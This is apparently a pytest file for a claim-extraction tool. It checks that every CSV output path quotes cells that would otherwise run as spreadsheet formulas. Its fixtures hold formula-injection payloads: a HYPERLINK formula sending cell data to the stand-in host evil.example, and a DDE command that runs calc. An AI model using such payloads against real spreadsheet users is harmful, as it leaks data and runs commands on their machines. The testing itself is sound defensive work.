"""CSV output opened in a spreadsheet: text cells that would run as formulas are neutralised
on every path that writes CSV (claims, extract, export claims, export series)."""
import csv
import io
import json
from pathlib import Path

import pytest

from claimscope.cli import main
from claimscope.spreadsheet import safe_cell

ARTICLE = ("Titre\n12.03.2025\nSelon le NIS, environ 11 000 soldats nord-coréens ont été déployés en Russie. "
           "Le NIS estime qu'environ 300 d'entre eux ont été tués.\n")
RECORDS = [
    {"id": '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "publisher": "+cmd|' /C calc'!A0"},
    {"id": "@SUM(1)", "publisher": "\t=1+1"},
    {"id": "-1+1", "publisher": "\r=2+2"},
]
DANGEROUS = tuple("=+-@\t\r")


@pytest.mark.parametrize("value, safe", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1+1", "'-1+1"), ("@SUM(1)", "'@SUM(1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("NIS", "NIS"), ("", ""), (None, None), (-300.0, -300.0), (12, 12), (True, True),
])
def test_text_cells_that_start_a_formula_get_a_quote_and_numbers_stay_numbers(value, safe):
    assert safe_cell(value) == safe


@pytest.fixture()
def articles(in_tmp):
    with open("a.jsonl", "w", encoding="utf-8") as f:
        for r in RECORDS:
            f.write(json.dumps({**r, "text": ARTICLE}) + "\n")
    return in_tmp


def cells(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def assert_neutralised(rows: list[dict], columns: tuple[str, ...]):
    assert rows
    for row in rows:
        for value in row.values():
            assert not (value or "").startswith(DANGEROUS), row
        for col in columns:
            assert row[col].startswith("'"), (col, row)


def test_extract_csv_is_neutralised(articles, capsys):
    assert main(["extract", "a.jsonl", "--format", "csv"]) == 0
    rows = cells(capsys.readouterr().out)
    assert_neutralised(rows, ("doc", "publisher"))
    assert {r["doc"] for r in rows} == {"'" + r["id"] for r in RECORDS}
    assert sorted({float(r["value"]) for r in rows}) == [300.0, 11000.0]  # numbers stay numbers


def test_claims_and_exports_are_neutralised(articles, capsys):
    assert main(["ingest", "-q", "a.jsonl", "--db", "l.db"]) == 0
    capsys.readouterr()
    assert main(["claims", "--db", "l.db", "--format", "csv"]) == 0
    rows = cells(capsys.readouterr().out)
    assert_neutralised(rows, ("doc", "publisher"))
    assert len(rows) == 6 and {r["value"] for r in rows} == {"300.0", "11000.0"}
    assert main(["export", "claims", "--db", "l.db", "-o", "c.csv"]) == 0
    rows = cells(Path("c.csv").read_text(encoding="utf-8"))
    assert_neutralised(rows, ("doc", "publisher"))
    assert main(["export", "series", "--db", "l.db", "-o", "s.csv"]) == 0
    rows = cells(Path("s.csv").read_text(encoding="utf-8"))
    assert_neutralised(rows, ("claim",))
    assert {r["value"] for r in rows} == {"300.0", "11000.0"}
    assert main(["series", "--db", "l.db", "--format", "csv"]) == 0
    assert_neutralised(cells(capsys.readouterr().out), ("claim",))
